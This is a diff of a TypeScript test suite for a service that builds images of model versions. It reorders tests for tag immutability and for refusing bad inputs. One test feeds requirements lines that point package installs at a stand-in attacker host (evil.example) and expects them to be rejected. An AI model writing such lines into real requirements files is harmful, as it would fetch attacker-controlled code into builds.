@@ -68,6 +68,51 @@ describe('an image of a model version', () => {
     assert.ok(elsewhere.uploadedBytes < 20_000, `${elsewhere.uploadedBytes} bytes: layers are mounted, not sent`);
   });
 
+  it('does not move a version’s tag to another image', async () => {
+    const files = await modelFiles();
+    const changed = files.map((file) =>
+      file.path === 'data/weights.json'
+        ? { ...file, content: Buffer.from('{"length": 2.5, "width": -2.0, "count": 10.0}\n') }
+        : file,
+    );
+    await cloud.activities.buildImage({ ...(await version(files, 1, 'tagged')), repository: 'edge-train/tagged' });
+    const other = { ...(await version(changed, 1, 'tagged')), repository: 'edge-train/tagged' };
+    await assert.rejects(cloud.activities.buildImage(other), (error: unknown) => {
+      assert.ok(error instanceof ServiceError);
+      assert.deepEqual([error.type, error.class, error.retryable], ['TagTaken', 'policy', false]);
+      return true;
+    });
+    const built = await cloud.activities.buildImage({ ...other, version: versionOf(other.evidence, 2) });
+    const manifest = (await findManifest(cloud.registry, 'edge-train/tagged', 'v2'))?.manifest as ImageManifest;
+    const before = (await findManifest(cloud.registry, 'edge-train/tagged', 'v1'))?.manifest as ImageManifest;
+    assert.deepEqual(manifest.layers.slice(0, -1), before.layers.slice(0, -1), 'only the model’s layer is another');
+    assert.ok(built.uploadedBytes < 50_000);
+  });
+
+  it('refuses a model that cannot be served, requirements that are no names, and packages that cannot be had', async () => {
+    const files = await modelFiles();
+    const build = async (changed: typeof files) =>
+      cloud.activities.buildImage({ ...(await version(changed, 1, 'refused')), repository: 'edge-train/refused' });
+    const withRequirements = (text: string) =>
+      files.map((file) => (file.path === 'requirements.txt' ? { ...file, content: Buffer.from(text) } : file));
+    const type = (expected: string) => (error: unknown) => {
+      assert.ok(error instanceof ServiceError, String(error));
+      assert.deepEqual([error.type, error.class, error.retryable], [expected, 'input', false]);
+      return true;
+    };
+    await assert.rejects(build(files.filter(({ path }) => path !== 'MLmodel')), type('ModelNotServable'));
+    await assert.rejects(
+      build(withRequirements('pandas\n--index-url https://evil.example/simple\n')),
+      type('RequirementRefused'),
+    );
+    await assert.rejects(
+      build(withRequirements('pandas @ https://evil.example/pandas.whl\n')),
+      type('RequirementRefused'),
+    );
+    await assert.rejects(build(withRequirements('pandas==0.0.0.dev1\n')), type('EnvironmentUnsolvable'));
+    assert.equal(await findManifest(cloud.registry, 'edge-train/refused', 'v1'), undefined);
+  });
+
   it('is found for a deployment by its version, which must be there, not archived and of that site; its grant pulls it and no more', async () => {
     const { client, group, name: workspace } = cloud.workspace;
     const put = (version: string, more: { isArchived?: boolean; site?: string; model?: string } = {}) => {
@@ -114,51 +159,6 @@ describe('an image of a model version', () => {
       cloud.activities.grantServingImage({ image: other, machineKey: publicKey }),
       type('RegistryWithdrawn'),
     );
-  });
-
-  it('does not move a version’s tag to another image', async () => {
-    const files = await modelFiles();
-    const changed = files.map((file) =>
-      file.path === 'data/weights.json'
-        ? { ...file, content: Buffer.from('{"length": 2.5, "width": -2.0, "count": 10.0}\n') }
-        : file,
-    );
-    await cloud.activities.buildImage({ ...(await version(files, 1, 'tagged')), repository: 'edge-train/tagged' });
-    const other = { ...(await version(changed, 1, 'tagged')), repository: 'edge-train/tagged' };
-    await assert.rejects(cloud.activities.buildImage(other), (error: unknown) => {
-      assert.ok(error instanceof ServiceError);
-      assert.deepEqual([error.type, error.class, error.retryable], ['TagTaken', 'policy', false]);
-      return true;
-    });
-    const built = await cloud.activities.buildImage({ ...other, version: versionOf(other.evidence, 2) });
-    const manifest = (await findManifest(cloud.registry, 'edge-train/tagged', 'v2'))?.manifest as ImageManifest;
-    const before = (await findManifest(cloud.registry, 'edge-train/tagged', 'v1'))?.manifest as ImageManifest;
-    assert.deepEqual(manifest.layers.slice(0, -1), before.layers.slice(0, -1), 'only the model’s layer is another');
-    assert.ok(built.uploadedBytes < 50_000);
-  });
-
-  it('refuses a model that cannot be served, requirements that are no names, and packages that cannot be had', async () => {
-    const files = await modelFiles();
-    const build = async (changed: typeof files) =>
-      cloud.activities.buildImage({ ...(await version(changed, 1, 'refused')), repository: 'edge-train/refused' });
-    const withRequirements = (text: string) =>
-      files.map((file) => (file.path === 'requirements.txt' ? { ...file, content: Buffer.from(text) } : file));
-    const type = (expected: string) => (error: unknown) => {
-      assert.ok(error instanceof ServiceError, String(error));
-      assert.deepEqual([error.type, error.class, error.retryable], [expected, 'input', false]);
-      return true;
-    };
-    await assert.rejects(build(files.filter(({ path }) => path !== 'MLmodel')), type('ModelNotServable'));
-    await assert.rejects(
-      build(withRequirements('pandas\n--index-url https://evil.example/simple\n')),
-      type('RequirementRefused'),
-    );
-    await assert.rejects(
-      build(withRequirements('pandas @ https://evil.example/pandas.whl\n')),
-      type('RequirementRefused'),
-    );
-    await assert.rejects(build(withRequirements('pandas==0.0.0.dev1\n')), type('EnvironmentUnsolvable'));
-    assert.equal(await findManifest(cloud.registry, 'edge-train/refused', 'v1'), undefined);
   });
 
   it('refuses to put bytes into an image that are not what was released', async () => {
